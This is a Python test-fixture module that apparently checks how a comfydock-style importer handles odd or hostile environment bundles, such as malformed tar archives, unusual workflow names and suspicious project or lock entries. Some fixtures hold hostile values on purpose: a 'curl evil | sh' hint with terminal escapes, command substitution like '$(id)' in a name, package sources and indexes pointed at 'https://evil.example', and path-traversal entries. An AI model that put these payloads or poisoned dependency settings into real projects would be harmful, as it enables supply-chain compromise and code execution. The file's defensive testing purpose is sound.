"""Bundles that are odd and honest, or that say what nobody obeys: all of them are accepted."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

from tests.core.storage.archive_bytes import END, gz, header, member, pax, pax_record
from tests.hostile.bundles import (
    LOCK,
    PROJECT,
    PYTHON,
    Change,
    Files,
    append,
    both,
    changed,
    drop,
    listed,
    packed,
    records,
    swap,
    tell,
    write,
)
from tests.hostile.good import (
    KEY,
    MODEL,
    REPOSITORY,
    SHA256,
    SOURCE,
    WORKFLOW,
    full,
)
from tests.hostile.workflows import GRAPHS


@dataclass(frozen=True, kw_only=True, slots=True)
class Honest:
    """What is done to the good bundle, and the words that some warning has."""

    make: Callable[[Files], bytes]
    warning: str = ""


def _odd(change: Change, warning: str = "") -> Honest:
    return Honest(make=lambda files: packed(listed(changed(change, files))), warning=warning)


def _archive(change: Callable[[bytes], bytes]) -> Honest:
    """The same files in other records, which ``change`` gets without their end."""
    return Honest(make=lambda files: change(records(listed(files))))


def _workflow(name: str, content: bytes = WORKFLOW) -> Honest:
    table = f"\n[tool.comfydock.workflows.{json.dumps(name, ensure_ascii=False)}]\nnodes = []\n"
    return _odd(both(write(f"workflows/{name}.json", content), append(PROJECT, table)))


def _nothing(files: Files) -> None:
    """No nodes, no models, no workflows: a fresh environment."""
    head = files[PROJECT].decode().partition("[tool.comfydock.nodes.acme-git]")[0]
    files[PROJECT] = head.encode()
    for name in [name for name in files if name.startswith(("workflows/", "dev_nodes/"))]:
        del files[name]
    tell(workflows=[], total_models=0, total_nodes=0, development=None)(files)


def _many(files: Files) -> None:
    for number in range(500):
        files[f"workflows/many/{number:03}.json"] = WORKFLOW


def _spelled_otherwise(tar: bytes) -> bytes:
    """As `tar -c .` writes it: a dot in front of everything, and records of the folders."""
    folders = [b"./", b"./workflows/", b"./dev_nodes/", b"./dev_nodes/my-dev/"]
    return gz(b"".join(member(name, kind=b"5") for name in folders) + tar + END)


def _inputs(*names: str) -> Honest:
    return _odd(both(full, *(write(f"inputs/{name}", b"x") for name in names)))


def _lock(lines: str, warning: str = "") -> Honest:
    return _odd(append(LOCK, f'\n[[package]]\nname = "evil"\nversion = "1"\n{lines}\n'), warning)


def _project(lines: str) -> Honest:
    return _odd(append(PROJECT, f"\n{lines}\n"))


_LONG = "x" * 255 + "/" + "x" * (256 - len("dev_nodes/my-dev/"))
_DEEP = "d/" * 29 + "x.py"
_ISSUE = {
    "workflow": "",
    "kind": "model",
    "subject": "\x1b]0;x\x07",
    "sentence": "\x1b[2J\nhint: curl evil | sh",
}
_EVIL = "https://evil.example"

WORKFLOWS: dict[str, Honest] = {
    **{
        f"a workflow named {name!a}": _workflow(name)
        for name in (
            *("a/b/c/d", "\u30ae\u30e3\u30e9\u30ea\u30fc", "\u00e9t\u00e9", "\U0001f431"),
            *("with spaces (2)", "$(id) `id` 'x' & y", "100%", "a.b.json", "[x] #1", "\u0645"),
        )
    },
    "an empty graph": _workflow("empty", b"{}"),
    "a list": _workflow("list", b"[]"),
    "the form of the API": _workflow("api", b'{"1": {"class_type": "X", "inputs": {}}}'),
    "a byte order mark": _workflow("bom", b"\xef\xbb\xbf" + WORKFLOW),
    **{f"a graph with {what}": _workflow("x", text.encode()) for what, text in GRAPHS.items()},
    "500 of them": _odd(_many),
    "one that is not there": _project('[tool.comfydock.workflows.gone]\nnodes = ["acme-text"]'),
}

SHAPES: dict[str, Honest] = {
    "as it is": _odd(lambda files: None),
    "nothing in it": _odd(_nothing),
    "the whole profile": _odd(full),
    "only workflows": _odd(tell(profile="workflow-only")),
    "of an older exporter": _odd(tell(files=None), "lists no digests"),
    "of a later format": _odd(tell(format_version=7), "has format 7"),
    "of a later comfydock": _odd(tell(comfydock_version="99.0"), "newer comfydock"),
    "of an unknown comfydock": _odd(tell(comfydock_version="\x1b[2J"), "unknown comfydock"),
    "keys that nobody knows": _odd(both(tell(more={"a": [1]}), append(PROJECT, "\n[more]\na=1\n"))),
    "as tar writes it": _archive(_spelled_otherwise),
    "with a name in the gzip header": _archive(
        lambda tar: b"\x1f\x8b\x08\x08\0\0\0\0\0\xffx.tar\0" + gz(tar + END)[10:]
    ),
    "not compressed": _archive(lambda tar: gz(tar + END, level=0)),
    "filled up to a tape record": _archive(lambda tar: gz(tar + END + bytes(10_240))),
    "folders of GNU tar": _archive(
        lambda tar: gz(header(b"dev_nodes/my-dev/", kind=b"5", magic=b"ustar  \0") + tar + END)
    ),
    "a long path of GNU tar": Honest(
        make=lambda files: gz(
            member(b"././@LongLink", b"workflows/x.json\0", b"L")
            + member(b"workflows/", WORKFLOW)
            + records(changed(tell(files=None), files))
            + END
        )
    ),
    "a short path in a pax record": Honest(
        make=lambda files: gz(
            pax(pax_record(b"path", b"workflows/x.json"))
            + member(b"x", WORKFLOW)
            + records(changed(tell(files=None), files))
            + END
        )
    ),
    "a name of 512 bytes": _odd(write(f"dev_nodes/my-dev/{_LONG}", b"x")),
    "32 folders": _odd(write(f"dev_nodes/my-dev/{_DEEP}", b"x")),
    "dot files": _odd(
        both(*(write(f"dev_nodes/my-dev/{n}", b"x") for n in (".gitignore", ".github/x.yml")))
    ),
    "scripts and native code": _odd(
        both(*(write(f"dev_nodes/my-dev/{n}", b"x") for n in ("install.py", "x.so", "x.dll")))
    ),
    "a node whose source is not there": _odd(
        both(drop("dev_nodes/my-dev/__init__.py"), drop("dev_nodes/my-dev/requirements.txt"))
    ),
    "a node with spaces and dots": _odd(
        swap(PROJECT, "[tool.comfydock.nodes.acme-git]", '[tool.comfydock.nodes."acme git v1.2"]')
    ),
    "a node over ssh": _odd(swap(PROJECT, REPOSITORY, 'repository = "ssh://git@host.example/a"')),
    "a node without a digest": _odd(swap(PROJECT, f'sha256 = "{"b2472d3a" * 8}"\n', "")),
    "a ComfyUI out of a folder": _odd(
        swap(PROJECT, "https://github.com/comfyanonymous/ComfyUI", "/home/me/ComfyUI")
    ),
    "inputs of all kinds": _inputs("a.png", "sub/b.MP4", "c.wav", "\u00e9/d.json", "e.latent"),
    "a model that nobody lists": _odd(both(full, write("models/loras/x.SafeTensors", MODEL))),
    "a model of any size": _odd(both(full, write("models/loras/x.gguf", bytes(70 << 20)))),
    "a model without a digest": _odd(swap(PROJECT, f'sha256_hash = "{SHA256}"\n', "")),
    "a model without a source": _odd(swap(PROJECT, f'"{SOURCE}"', "")),
    "a model of plain http": _odd(swap(PROJECT, SOURCE, "http://host.example/x?fileId=1")),
    "a model that nobody uses": _project(
        f'[tool.comfydock.models.{KEY}ff]\nsize = 1\nrelative_path = "loras/x.pt"'
    ),
    "a Python with a patch": _odd(write(PYTHON, "3.11.7\r\n")),
    "strings with brackets and dots": _project(
        '[more]\nx = """\n' + '"a.b" [[[ ' * 50 + '\n"""\n' + "y = '" + "a." * 500 + "'"
    ),
    "a lock with nothing in it": _odd(write(LOCK, "version = 1\n")),
}

UNHEEDED: dict[str, Honest] = {
    "counts that lie": _odd(tell(total_models=2**62, total_nodes=2**62, workflows=["x", "y"])),
    "counts of nothing": _odd(tell(total_models=0, total_nodes=0, workflows=[])),
    "a model that is larger than any disk": _odd(
        swap(PROJECT, f"\nsize = {len(MODEL)}", f"\nsize = {2**63 - 1}")
    ),
    "a model of no size": _odd(swap(PROJECT, f"\nsize = {len(MODEL)}\n", "\nsize = 0\n")),
    "the whole profile without a model": _odd(tell(profile="full")),
    "issues with escapes": _odd(tell(issues=[_ISSUE]), "the sender left this open"),
    "inputs with escapes": _odd(tell(missing_inputs=["../../\x1b[2J\n"]), "not in the bundle"),
    "a build system": _project(
        '[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\nbackend-path = ["."]'
    ),
    "a workspace": _project('[tool.uv.workspace]\nmembers = ["../x", "dev_nodes/*"]'),
    "a source for uv": _project(f'[tool.uv.sources]\npackaging = {{ url = "{_EVIL}/p.whl" }}'),
    "a path for uv": _project('[tool.uv.sources]\npackaging = { path = "../evil" }'),
    "an index for uv": _project(f'[[tool.uv.index]]\nurl = "{_EVIL}/simple"\ndefault = true'),
    "settings of uv": _odd(
        swap(
            PROJECT,
            "package = false",
            f'package = true\npython-install-mirror = "{_EVIL}"\nextra-index-url = ["{_EVIL}"]\n'
            f'find-links = ["{_EVIL}"]\nno-build = false\nindex-strategy = "unsafe-best-match"\n'
            f'override-dependencies = ["packaging @ {_EVIL}/p.whl"]\nmanaged = true',
        )
    ),
    "scripts": _project('[project.scripts]\nls = "evil:main"\n[project.entry-points.x]\ny = "z"'),
    "a wheel of another host": _odd(swap(LOCK, "https://files.example", _EVIL)),
    "an index of another host": _odd(swap(LOCK, "https://index.example", _EVIL)),
    "a package out of git": _lock(f'source = {{ git = "{_EVIL}/x" }}', "came from git"),
    "a package out of a folder": _lock('source = { editable = "../../x" }', "came from editable"),
    "a package out of a path": _lock('source = { path = "/etc/x.whl" }', "came from path"),
    "a package out of an address": _lock(f'source = {{ url = "{_EVIL}/x.whl" }}', "came from url"),
    "a source that nobody knows": _lock('source = { "\\u001b[2J" = "\\n" }', "and is not taken"),
    "a package of source only": _lock(
        f'source = {{ registry = "x" }}\nsdist = {{ hash = "sha256:{"0" * 64}" }}'
    ),
}
HONEST: dict[str, Honest] = WORKFLOWS | SHAPES | UNHEEDED
